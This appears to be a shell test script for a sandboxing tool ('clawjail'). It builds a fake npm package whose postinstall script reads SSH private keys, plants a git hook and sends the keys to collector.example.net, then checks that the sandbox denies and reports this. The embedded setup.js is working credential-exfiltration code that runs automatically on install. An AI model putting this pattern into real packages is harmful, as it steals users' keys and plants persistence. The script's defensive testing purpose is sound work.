#!/bin/sh
# A package whose install script looks for keys, leaves a git hook and calls home: what the user sees of it, what `why` tells, and
# what the page shows.
set -eu

place=$(realpath "$(mktemp -d)")
trap 'rm -rf "$place"' EXIT
mkdir -p "$place/project/left-padding"
cd "$place/project"
git init --quiet .
echo '{"name": "victim", "version": "1.0.0", "dependencies": {"left-padding": "file:./left-padding"}}' >package.json
echo '{"name": "left-padding", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}' >left-padding/package.json
cat >left-padding/setup.js <<'END'
const fs = require("fs"), os = require("os");
const tried = (what) => { try { return what(); } catch { return ""; } };
const key = tried(() => fs.readFileSync(os.homedir() + "/.ssh/id_ed25519")) + tried(() => fs.readFileSync("/root/.ssh/id_ed25519"));
tried(() => fs.writeFileSync("../.git/hooks/post-checkout", "#!/bin/sh\n"));
require("http").get("http://collector.example.net/?" + key).on("error", () => {});
END

clawjail run --record full --ledger "$place/runs" -- npm install --offline --no-audit --no-fund --loglevel=error
run=$(clawjail log --ledger "$place/runs" --json | sed -n 's/.*"id":"\([0-9a-f-]*\)".*/\1/p' | head -n 1)
clawjail why "$run" --ledger "$place/runs"
clawjail report "$run" --ledger "$place/runs" --html "$place/page.html"
# The words of the page, without what a browser makes of them.
sed -e 's/<style>[^<]*<\/style>//' -e 's/<[^>]*>/ /g' "$place/page.html" | tr -s ' \n' | sed -n '/Denied/,/What was enforced/p'
! [ -e .git/hooks/post-checkout ]
